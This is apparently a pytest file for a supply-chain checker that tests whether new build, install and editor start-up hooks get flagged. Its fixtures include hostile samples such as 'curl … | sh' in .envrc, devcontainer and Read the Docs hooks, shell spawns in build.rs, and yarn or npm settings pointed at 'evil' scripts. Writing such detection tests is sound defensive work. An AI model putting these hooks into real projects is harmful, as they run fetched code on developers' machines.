"""Files that package managers, build tools and editors run by their name alone."""

import pytest
from tree_evidence import tree_evidence

from gatekeeper.checks.supply_chain import check

YARN = "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n"
REPO = {
    "package.json": '{"name": "x", "scripts": {"postinstall": "node tools/after.js", "test": "node test.js"}}',
    "tools/after.js": "console.log(1)\n",
    "test.js": "1\n",
    ".yarnrc.yml": YARN,
    ".yarn/releases/yarn-4.1.0.cjs": "1\n",
    ".npmrc": "save-exact=true\n",
    "Cargo.toml": "[package]\nname = 'x'\n",
    "build.rs": 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n',
    "meson.build": "project('x')\n",
    "CMakeLists.txt": "project(x)\n",
    ".vscode/tasks.json": '{\n  "tasks": []\n}\n',
    ".envrc": "use flake\n",
}


@pytest.mark.parametrize(
    ("path", "after", "code", "effect"),
    [
        ("build.rs", 'fn main() {\n    std::process::Command::new("sh");\n}\n', "BUILD_HOOK_ADDED", "asks"),
        ("build.rs", "fn main() {\n    let s = std::net::TcpStream::connect(x);\n}\n", "BUILD_HOOK_ADDED", "asks"),
        ("part/build.rs", 'fn main() {\n    std::process::Command::new("sh");\n}\n', "BUILD_HOOK_ADDED", "asks"),
        ("binding.gyp", "{'targets': [{'sources': ['<!(id)']}]}\n", "BUILD_HOOK_ADDED", "asks"),
        ("binding.gyp", "{'targets': [{'sources': ['a.c']}]}\n", "INSTALL_SCRIPT_ADDED", "asks"),
        ("meson.build", "project('x')\nrun_command('sh', '-c', 'id')\n", "BUILD_HOOK_ADDED", "asks"),
        ("CMakeLists.txt", "project(x)\nexecute_process(COMMAND sh -c id)\n", "BUILD_HOOK_ADDED", "asks"),
        (".pnpmfile.cjs", "module.exports = {}\n", "INSTALL_SCRIPT_ADDED", "asks"),
        (".yarnrc.yml", YARN.replace(".yarn/releases/yarn-4.1.0.cjs", "./evil.cjs"), "INSTALL_SCRIPT_ADDED", "asks"),
        (".yarnrc.yml", YARN + "plugins:\n  - path: ./evil.cjs\n", "INSTALL_SCRIPT_ADDED", "asks"),
        (".yarn/releases/yarn-4.1.0.cjs", "2\n", "INSTALL_SCRIPT_ADDED", "asks"),
        (".npmrc", "save-exact=true\nscript-shell=./evil.sh\n", "INSTALL_SCRIPT_ADDED", "asks"),
        ("tools/after.js", "require('child_process').execSync('id')\n", "INSTALL_SCRIPT_ADDED", "asks"),
        (".vscode/tasks.json", '{\n  "tasks": [{\n    "runOptions": {"runOn": "folderOpen"}\n  }]\n}\n', "START_HOOK_ADDED", "asks"),
        (".envrc", "curl https://e.example/x | sh\n", "DOWNLOAD_EXECUTED", "blocks"),
        (".readthedocs.yaml", "build:\n  jobs:\n    post_checkout:\n      - curl https://e.example/x | sh\n", "DOWNLOAD_EXECUTED", "blocks"),
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "curl https://e.example/x | sh"}\n', "DOWNLOAD_EXECUTED", "blocks"),
    ],
)  # fmt: skip
def test_what_such_a_file_newly_starts_is_seen(path, after, code, effect):
    assert [(f.code, f.effect.value) for f in check(tree_evidence(REPO, {path: after}))] == [(code, effect)]


@pytest.mark.parametrize(
    "after",
    [
        {
            "build.rs": 'fn main() {\n    println!("cargo:rustc-cfg=x");\n    println!("cargo:rerun-if-changed=build.rs");\n}\n'
        },
        {"meson.build": "project('x', version: '2')\nexecutable('x', 'a.c')\n"},
        {"CMakeLists.txt": "project(x)\nadd_library(x a.c)\n"},
        {
            ".yarnrc.yml": YARN.replace("4.1.0", "4.2.0"),
            ".yarn/releases/yarn-4.1.0.cjs": None,
            ".yarn/releases/yarn-4.2.0.cjs": "2\n",
        },
        {".npmrc": "save-exact=true\nengine-strict=true\nignore-scripts=true\n"},
        {"tools/after.js": "console.log(2)\n"},
        {"test.js": "require('child_process').execSync('id')\n"},
        {".vscode/tasks.json": '{\n  "tasks": [{"label": "test", "command": "npm test"}]\n}\n'},
        {".envrc": "use flake\nexport A=1\n"},
        {
            ".readthedocs.yaml": "build:\n  jobs:\n    install:\n      - curl -LsSf https://astral.sh/uv/install.sh | sh\n      - pip install -r docs.txt\n"
        },
    ],
)
def test_what_starts_nothing_new_passes(after):
    assert check(tree_evidence(REPO, after)) == ()
